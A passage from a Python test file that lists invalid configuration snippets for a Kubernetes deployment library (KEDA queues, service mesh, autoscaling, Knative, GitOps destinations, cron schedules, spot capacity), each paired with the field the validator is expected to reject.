    ("queue-on-postgres", KEDA_W + 'connects_to=[pg], scale_on=Queue(on=pg, name="jobs"))', "shop/stage/w",
     "scale_on.on"),
    ("queue-external-without-kind", KEDA_W + 'connects_to=[rabbit], scale_on=Queue(on=rabbit, name="jobs"))',
     "shop/stage/w", "scale_on.kind"),
    ("queue-rabbitmq-without-its-url", KEDA_W + 'connects_to=[rabbit], scale_on=Queue(on=rabbit, name="jobs", '
     'kind="rabbitmq"))', "shop/stage/w", "scale_on.auth"),
    ("queue-auth-names-no-secret", KEDA_W + 'connects_to=[rabbit], scale_on=Queue(on=rabbit, name="jobs", '
     'kind="rabbitmq", auth={"host": "AMQP_URL"}))', "shop/stage/w", "scale_on.auth.host"),
    ("queue-auth-unknown-parameter", KEDA_W + 'connects_to=[rabbit], scale_on=Queue(on=rabbit, name="jobs", '
     'kind="rabbitmq", auth={"token": "URL"}))', "shop/stage/w", "scale_on.auth.token"),
    ("queue-min-above-max", KEDA_W + 'connects_to=[q], scale_on=Queue(on=q, name="jobs", min=5, max=2))',
     "shop/stage/w", "scale_on"),
    ("queue-sqs-name-not-a-url", KEDA + 'sqs = External(k, "sqs", host="sqs.eu-west-1.amazonaws.com", port=443)\n'
     'Worker(k, "w", image="busybox:1.37.0", command=["sleep", "1d"], health=Health.exec(["true"]), '
     'connects_to=[sqs], scale_on=Queue(on=sqs, name="jobs", kind="sqs"))', "shop/stage/w", "scale_on.name"),
    ("queue-and-autoscale", KEDA_W + 'connects_to=[q], scale_on=Queue(on=q, name="jobs"), autoscale=Autoscale())',
     "shop/stage/w", "scale_on"),
    ("queue-per-replica-zero", KEDA_W + 'connects_to=[q], scale_on=Queue(on=q, name="jobs", per_replica=0))',
     "shop/stage/w", "scale_on.per_replica"),
    ("keda-without-pod-labels", 'Environment(app, "stage", keda=Keda(pods={}))', "shop/stage", "keda.pods"),
    ("queue-list-name-with-a-space", KEDA_W + 'connects_to=[q], scale_on=Queue(on=q, name="new jobs"))',
     "shop/stage/w", "scale_on.name"),
    ("queue-in-the-mesh-read-by-keda-outside-it", 'k = Environment(app, "stage", keda=Keda(), mesh=Mesh(), '
     'data_storage=DS)\n'
     'ns = SecureNamespace(k, "shop", mesh="istio")\n'
     'q = StatefulDB(ns, "queue", engine="redis", version="7.4")\n'
     'Worker(ns, "w", image="busybox:1.37.0", health=Health.exec(["true"]), connects_to=[q], '
     'scale_on=Queue(on=q, name="jobs"))', "shop/stage/shop/w", "scale_on.on"),
    ("keda-plain-text-reason-without-a-reason", 'Environment(app, "stage", keda=Keda(plain_text_reason="ok"))',
     "shop/stage", "keda.plain_text_reason"),
    ("keda-in-the-mesh-with-a-plain-text-reason", 'Environment(app, "stage", keda=Keda(in_mesh=True, '
     'plain_text_reason="KEDA runs outside the mesh until the upgrade"))', "shop/stage", "keda.plain_text_reason"),
    ("keda-service-account-not-a-name", 'Environment(app, "stage", keda=Keda(in_mesh=True, '
     'service_account="KEDA operator"))', "shop/stage", "keda.service_account"),
    ("redis-user-keda", DB + 'engine="redis", version="7.4", user="keda")', "shop/dev/db", "user"),
]
ALL_CASES += QUEUE_CASES
MESH = 'm = Environment(app, "stage", mesh=Mesh(), data_storage=DS)\n'
MESH_CASES = [
    ("mesh-on-a-namespace-without-it", 'SecureNamespace(dev, "team", mesh="istio")', "shop/dev/team", "mesh"),
    ("mesh-unknown-kind", 'SecureNamespace(dev, "team", mesh="consul")', "shop/dev/team", "mesh"),
    ("mesh-client-outside-the-mesh", MESH + 'inside = SecureNamespace(m, "inside", mesh="istio")\n'
     'outside = SecureNamespace(m, "outside")\n'
     'inside.accepts_from.append(outside)\n'
     'db = StatefulDB(inside, "db", engine="postgres", version="16")\n'
     'WebService(outside, "api", image="nginx:1.27.3", port=80, connects_to=[db])', "shop/stage/outside/api",
     "connects_to"),
    ("mesh-timeout-in-words", 'Environment(app, "stage", mesh=Mesh(timeout="soon"))', "shop/stage", "mesh.timeout"),
    ("mesh-retries-too-many", 'Environment(app, "stage", mesh=Mesh(retries=50))', "shop/stage", "mesh.retries"),
    ("mesh-rate-limit-zero", 'Environment(app, "stage", mesh=Mesh(rate_limit=0))', "shop/stage", "mesh.rate_limit"),
    ("mesh-for-node-agents", MESH + 'SecureNamespace(m, "agents", mesh="istio", host_access="the log shipper reads '
     'each node\'s /var/log")', "shop/stage/agents", "mesh"),
]
ALL_CASES += MESH_CASES
ALL_CASES += [
    ("worker-metrics-port-by-name", 'Worker(dev, "w", image="busybox:1.37.0", command=["sleep", "1d"], '
     'health=Health.exec(["true"]), metrics=Metrics())', "shop/dev/w", "metrics.port"),
    ("worker-metrics-port-out-of-range", 'Worker(dev, "w", image="busybox:1.37.0", command=["sleep", "1d"], '
     'health=Health.exec(["true"]), metrics=Metrics(port=70000))', "shop/dev/w", "metrics.port"),
]
ALL_CASES += [
    ("autoscale-on-nothing", WS + 'image="nginx:1.27.3", port=80, autoscale=Autoscale(cpu_percent=None))',
     "shop/dev/api", "autoscale"),
    ("autoscale-custom-metric-average-zero", WS + 'image="nginx:1.27.3", port=80, autoscale=Autoscale('
     'metrics=[CustomMetric("rps", average="0")]))', "shop/dev/api", "autoscale.metrics[0].average"),
    ("autoscale-custom-metric-name-with-spaces", WS + 'image="nginx:1.27.3", port=80, autoscale=Autoscale('
     'metrics=[CustomMetric("requests per second", average="10")]))', "shop/dev/api", "autoscale.metrics[0].name"),
    ("autoscale-selector-on-a-pods-metric", WS + 'image="nginx:1.27.3", port=80, autoscale=Autoscale('
     'metrics=[CustomMetric("rps", average="10", selector={"a": "b"})]))', "shop/dev/api",
     "autoscale.metrics[0].selector"),
    ("autoscale-scale-up-pods-zero", WS + 'image="nginx:1.27.3", port=80, autoscale=Autoscale(scale_up_pods=0))',
     "shop/dev/api", "autoscale.scale_up_pods"),
]
ALL_CASES += [
    ("alert-duration-in-words", 'Environment(app, "stage", monitoring=Monitoring(alerts=Alerts('
     'not_ready_for="a while")))', "shop/stage", "monitoring.alerts.not_ready_for"),
    ("alert-volume-full-at-100", 'Environment(app, "stage", monitoring=Monitoring(alerts=Alerts('
     'volume_full_percent=100)))', "shop/stage", "monitoring.alerts.volume_full_percent"),
]
ROUTED = 'WebService(prod, "api", image="nginx:1.27.3", port=80, public=True, '
ALL_CASES += [
    ("routed-canary-without-a-router", WS + 'image="nginx:1.27.3", port=80, strategy=RoutedCanary(weight=10, '
     'stable="1.27.2"))', "shop/dev/api", "strategy"),
    ("routed-canary-at-100", ROUTED + 'strategy=RoutedCanary(weight=100, stable="1.27.2"))', "shop/prod/api",
     "strategy.weight"),
    ("routed-canary-stable-is-the-new-version", ROUTED + 'strategy=RoutedCanary(weight=10, stable="1.27.3"))',
     "shop/prod/api", "strategy.stable"),
    ("routed-canary-tag-of-a-digest", 'WebService(prod, "api", image="nginx@sha256:' + "a" * 64 + '", port=80, '
     'public=True, strategy=RoutedCanary(weight=10, stable="1.27.2"))', "shop/prod/api", "strategy.stable"),
    ("routed-canary-on-a-worker", 'Worker(dev, "w", image="busybox:1.37.0", command=["sleep", "1d"], '
     'health=Health.exec(["true"]), strategy=RoutedCanary(weight=10, stable="1.36.1"))', "shop/dev/w", "strategy"),
    ("routed-canary-stable-with-spaces", ROUTED + 'strategy=RoutedCanary(weight=10, stable="last week"))',
     "shop/prod/api", "strategy.stable"),
]
KN = 'kn = Environment(app, "stage", knative=KnativeServing())\n'
KN_WS = KN + 'WebService(kn, "api", image="nginx:1.27.3", '
ALL_CASES += [
    ("serverless-without-knative", WS + 'image="nginx:1.27.3", port=80, serverless=Serverless())', "shop/dev/api",
     "serverless"),
    ("serverless-with-two-ports", KN_WS + 'ports={"http": 80, "admin": 81}, serverless=Serverless())',
     "shop/stage/api", "ports"),
    ("serverless-with-autoscale", KN_WS + 'port=80, serverless=Serverless(), autoscale=Autoscale())',
     "shop/stage/api", "autoscale"),
    ("serverless-with-a-volume", KN_WS + 'port=80, serverless=Serverless(), volumes={"/data": Volume(size="1Gi")})',
     "shop/stage/api", "volumes"),
    ("serverless-with-a-strategy", KN_WS + 'port=80, serverless=Serverless(), strategy=Rolling(max_surge=2))',
     "shop/stage/api", "strategy"),
    ("serverless-max-zero", KN_WS + 'port=80, serverless=Serverless(max=0))', "shop/stage/api", "serverless"),
    ("serverless-on-a-load-balancer", KN_WS + 'port=80, serverless=Serverless(), expose="load-balancer")',
     "shop/stage/api", "expose"),
    ("knative-gateway-port-zero", 'Environment(app, "stage", knative=KnativeServing(gateway_port=0))', "shop/stage",
     "knative.gateway_port"),
    # Knative's gateway and activator serve every Knative service of the cluster: a cluster-local one is reached by
    # any pod that reaches them, which the service must accept with its reason.
    ("serverless-cluster-local-without-an-accepted-risk", KN_WS + 'port=80, serverless=Serverless())',
     "shop/stage/api", "serverless"),
    ("serverless-cluster-local-accepted-without-a-reason", KN_WS + 'port=80, serverless=Serverless(), '
     'accepted_risks={"knativeSharedGateway": "ok"})', "shop/stage/api", "accepted_risks.knativeSharedGateway"),
    ("serverless-shared-gateway-in-the-wrong-case", KN_WS + 'port=80, serverless=Serverless(), '
     'accepted_risks={"knativesharedgateway": "every pod may call it"})', "shop/stage/api", "accepted_risks"),
    ("serverless-in-a-mesh", 'm = Environment(app, "stage", knative=KnativeServing(), mesh=Mesh())\n'
     'ns = SecureNamespace(m, "team", mesh="istio")\nWebService(ns, "api", image="nginx:1.27.3", port=80, '
     'public=True, host="api.example.com", serverless=Serverless())', "shop/stage/team/api", "serverless"),
]
ALL_CASES.append(("mesh-proxy-above-the-namespace-maximum", 'm = Environment(app, "stage", mesh=Mesh(proxy=Resources('
                  'cpu="1", cpu_limit="6")))\nns = SecureNamespace(m, "team", mesh="istio")\n'
                  'WebService(ns, "api", image="nginx:1.27.3", port=80)', "shop/stage", "mesh.proxy"))
ALL_CASES.append(("linkerd-client-outside-the-mesh", 'm = Environment(app, "stage", mesh=Mesh(kind="linkerd"), '
                  'data_storage=DS)\n'
                  'inside = SecureNamespace(m, "inside", mesh="linkerd")\noutside = SecureNamespace(m, "outside")\n'
                  'inside.accepts_from.append(outside)\n'
                  'db = StatefulDB(inside, "db", engine="postgres", version="16")\n'
                  'Worker(outside, "w", image="busybox:1.37.0", command=["sleep", "1d"], health=Health.exec(["true"]), '
                  'connects_to=[db])', "shop/stage/outside/w", "connects_to"))
# Scoped GitOps: destinations and the namespaces two Environments would both own on one cluster.
GIT = 'g = App("blog", registry="ghcr.io/acme", repository="https://github.com/acme/blog.git")\n'
API = 'WebService({}, "api", image="nginx:1.27.3", port=80)\n'
GITOPS_CASES = [
    ("destination-with-name-and-server",
     'Environment(app, "stage", destination=Destination(name="prod", server="https://prod.example.com"))',
     "shop/stage", "destination"),
    ("destination-with-neither", 'Environment(app, "stage", destination=Destination())', "shop/stage", "destination"),
    ("destination-as-a-string", 'Environment(app, "stage", destination="prod")', "shop/stage", "destination"),
    ("destination-bad-cluster-name", 'Environment(app, "stage", destination=Destination(name="Prod Cluster"))',
     "shop/stage", "destination.name"),
    ("destination-server-not-https", 'Environment(app, "stage", destination=Destination(server="prod:6443"))',
     "shop/stage", "destination.server"),
    ("destination-server-with-a-password",
     'Environment(app, "stage", destination=Destination(server="https://admin:s3cr3t-value@prod.example.com"))',
     "shop/stage", "destination.server"),
    ("destination-server-with-flux",
     'Environment(app, "stage", gitops="flux", destination=Destination(server="https://prod.example.com"))',
     "shop/stage", "destination.server"),
    ("destination-with-kubectl", 'Environment(app, "stage", gitops="kubectl", cluster=Cluster.kubeconfig(), '
     'destination=Destination(name="prod"))', "shop/stage", "destination.name"),
    ("repository-secret-bad-name", 'App("blog", registry="ghcr.io/acme", repository="https://github.com/acme/b.git",'
     ' repository_secret="Git Secret")', "blog", "repository_secret"),
    ("two-environments-own-a-namespace-on-one-cluster",
     GIT + 'a = Environment(g, "a")\nb = Environment(g, "b")\n' + API.format("a") + API.format("b"), "blog/b",
     "destination"),
    ("two-environments-own-a-namespace-on-one-named-cluster",
     GIT + 'a = Environment(g, "a", destination=Destination(name="prod"))\n'
     'b = Environment(g, "b", gitops="flux", destination=Destination(name="prod"))\n'
     'SecureNamespace(a, "web")\nSecureNamespace(b, "web")\n', "blog/b", "destination"),
    ("two-ci-deployed-environments-own-a-namespace-on-one-cluster",
     'a = Environment(app, "a", gitops="kubectl", cluster=Cluster.eks("shop", "eu-west-1"), namespace="web")\n'
     'b = Environment(app, "b", gitops="kubectl", cluster=Cluster.eks("shop", "eu-west-1"), namespace="web")\n'
     + API.format("a") + API.format("b"), "shop/b", "destination"),
]
ALL_CASES += GITOPS_CASES
# The patch workflow's schedule: a GitHub Actions cron (five fields, no macro, no '?').
PATCH_SCHEDULE = 'App("two", registry="ghcr.io/acme", patch_schedule={})'
ALL_CASES += [
    ("patch-schedule-macro", PATCH_SCHEDULE.format('"@weekly"'), "two", "patch_schedule"),
    ("patch-schedule-question-mark", PATCH_SCHEDULE.format('"0 4 ? * 1"'), "two", "patch_schedule"),
    ("patch-schedule-six-fields", PATCH_SCHEDULE.format('"0 0 4 * * 1"'), "two", "patch_schedule"),
    ("patch-schedule-day-of-week-7", PATCH_SCHEDULE.format('"0 4 * * 7"'), "two", "patch_schedule"),
    ("patch-schedule-not-a-string", PATCH_SCHEDULE.format("None"), "two", "patch_schedule"),
]
# Spot capacity only where a reclaimed node loses nothing and the pods can be placed by it.
SPOT = 'capacity="spot"'
SCHEDULING_CASES = [
    ("spot-database", DB + 'engine="postgres", version="16", ' + SPOT + ')', "shop/dev/db", "capacity"),
    ("spot-with-a-volume-of-its-own", WS + NGINX + ', port=80, volumes={"/data": Volume(size="1Gi")}, ' + SPOT + ')',
     "shop/dev/api", "capacity"),
    ("spot-node-agent", NA + 'health=Health.exec(["true"]), ' + SPOT + ')', "shop/dev/agent", "capacity"),
    ("spot-serverless", KN_WS + 'port=80, serverless=Serverless(), accepted_risks={"knativeSharedGateway": "every '
     'caller in the cluster is trusted"}, ' + SPOT + ')', "shop/stage/api", "capacity"),
    ("capacity-unknown", WS + NGINX + ', port=80, capacity="preemptible")', "shop/dev/api", "capacity"),
    ("priority-classes-not-a-bool", 'Environment(app, "stage", priority_classes="yes", data_storage=DS)',
     "shop/stage", "priority_classes"),
]
ALL_CASES += SCHEDULING_CASES
